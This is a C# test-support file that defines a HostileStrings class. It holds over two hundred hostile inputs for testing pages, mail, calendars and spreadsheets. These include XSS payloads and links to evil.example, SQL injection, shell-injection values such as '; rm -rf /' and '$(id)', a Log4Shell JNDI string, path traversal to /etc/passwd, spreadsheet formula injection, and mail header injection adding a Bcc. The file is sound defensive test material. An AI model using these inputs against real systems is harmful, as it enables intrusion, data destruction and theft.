namespace Arshjul.Testing;

/// <summary>What has broken pages, mails, calendars and spreadsheets when somebody typed it; more than two hundred of them.</summary>
public static class HostileStrings
{
    private static readonly string[] Tags =
    [
        "<script>alert(1)</script>", "</style><script>alert(1)</script>", "</title><svg onload=alert(1)>", "</textarea><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
        "<svg/onload=alert`1`>", "<img src=x onerror=alert(1)>", "<img src=\"https://spy.example/p.gif\">", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>",
        "<iframe srcdoc='x'>", "<iframe src=javascript:alert(1)>", "<a href=\"https://evil.example\">Svara</a>", "<a href=javascript:alert(1)>x</a>", "<b>fet</b>", "<!-- kommentar -->", "--!><img src=x>", "]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>",
        "<body onload=alert(1)>", "<form action=//evil.example><input name=x>", "<button formaction=//evil.example>x", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<template><script>1</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<object data=//evil.example>", "<embed src=//evil.example>", "<style>*{display:none}</style>", "<plaintext>", "<xmp><script>1</script>", "<marquee onstart=alert(1)>", "<isindex prompt=x>",
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x", "<svg><use href=\"data:image/svg+xml,<svg/>#x\">", "<foreignObject><p>x", "<tr><td></table><p>x", "<select><option>x", "<table><caption>x", "<h1>Rubrik</h1>", "<main>x</main>", "<label for=f-skal>x",
    ];

    private static readonly string[] Attributes =
    [
        "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=alert(1)", "\" autofocus onfocus=\"alert(1)", "\" style=\"display:none", "x\" type=\"hidden", "\"/><script>1</script>", "\\\"><b>", "&quot;><b>", "&#34;><b>", "&#x22;><b>", "&lt;script&gt;",
        "&#60;script&#62;", "&amp;amp;", "&nbsp;", "& < > \" '", "&", "&copy", "\"", "'", "`", "\"\"\"", "=", "/>", "onmouseover=alert(1)", "style=color:red;background:url(https://evil.example)", "expression(alert(1))",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "data:text/html,<script>1</script>", "vbscript:msgbox(1)", "//evil.example", "https://evil.example/?a=b&c=d#e", "mailto:a@b?bcc=evil@example.se", "file:///etc/passwd", "webcal://evil.example/x.ics", "\\\\evil\\share",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "%00", "%0d%0aSet-Cookie: x=1", "?a=1&b=2", "#top", "/logga-ut",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}", "${7*7}", "@Model.Secret", "@(1+1)", "@{ throw null; }", "@@", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "{0}", "{0:N2}", "{group}", "{year}", "{n}", "}{", "{", "%s%n%x", "%(x)s", "$1", "\\1", "[[x]]", "[x](javascript:alert(1))", "![x](//evil.example)", "**fet**", "# Rubrik", "> citat", "```", "|a|b|",
        "'; DROP TABLE Meetings; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "x' UNION SELECT 1 --", "Robert'); DELETE FROM people;--", "%", "_", "\\", "$(id)", "`id`", "; rm -rf /", "| cat", "&& id", "() { :;}; id", "${jndi:ldap://evil.example/x}", "null", "undefined", "NaN", "true", "0", "-1", "1e308", "[object Object]", "NULL", "Infinity",
    ];

    private static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"//evil.example\";\"x\")", "=IMPORTXML(\"//evil.example\",\"//a\")", "\t=1+1", " =1+1", "＝1+1", "a;b,c\\n:d", "\"a\",\"b\"", "a\tb", ";;;", ",,,", "'=1+1",
    ];

    private static readonly string[] Lines =
    [
        "\r\nBcc: evil@example.se", "\nSubject: annat", "\rX-Evil: 1", "%0d%0aBcc: evil@example.se", "\u0085Bcc: evil@example.se", "\u2028Bcc: evil@example.se", "\u2029Bcc: evil@example.se", "\r\n\r\n<p>kropp</p>", "\r\n.\r\nMAIL FROM:<a@b>", "\r\n--=_a_0\r\nContent-Type: text/html",
        "=?utf-8?Q?Bcc:_x?=", "=?utf-8?B?PGI+?=", "=0D=0ABcc: x", "BEGIN:VCALENDAR", "\r\nEND:VEVENT\r\nBEGIN:VALARM", "\nEND:VEVENT", "\rEND:VCALENDAR", "SUMMARY:x", ";VALUE=DATE:20260101", "\\, \\; \\n", "From mallen", "> From svar", ".", "..", "--", "-- ", "=====", "\t\v\f",
    ];

    private static readonly string[] Letters =
    [
        "\u202Eesrever", "\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069\u200E\u200F", "\u0001\u0007\u001B[31mröd", "\u007F\u009B", "\uFEFF\u200B\u2060\u00AD", "\uFFFE\uFFFF", "\U000E0041\U000E0042", "\uE000\uF8FF", "Z\u0351\u036B\u0343a\u0348l\u0347go", "👩‍👩‍👧‍👦 🇸🇪 ☕️", "مرحبا שלום", "ｆｕｌｌｗｉｄｔｈ <ｓｃｒｉｐｔ>",
        "\u2039script\u203A", "ﬁ ﬂ ß ẞ İ ı", "e\u0301 é", "\u00A0", "\u3000", "𝕬𝖗", "\u0307\u0307\u0307\u0307", "\u1160", "‮﷽", "ÅÄÖ åäö", "日本語のテキスト", "ไทย", "\u0600\u0601", "½ ² ½", new('å', 5000), new('W', 2000), "ord " + new string('x', 1200), new('"', 300), new('<', 300), string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 60)),
    ];

    /// <summary>All of them, with a kind in turn.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. new[] { Tags, Attributes, Addresses, Templates, Formulas, Lines, Letters }.SelectMany(kind => kind.Select((text, i) => (Place: (double)i / kind.Length, text))).OrderBy(t => t.Place).Select(t => t.text)];
}
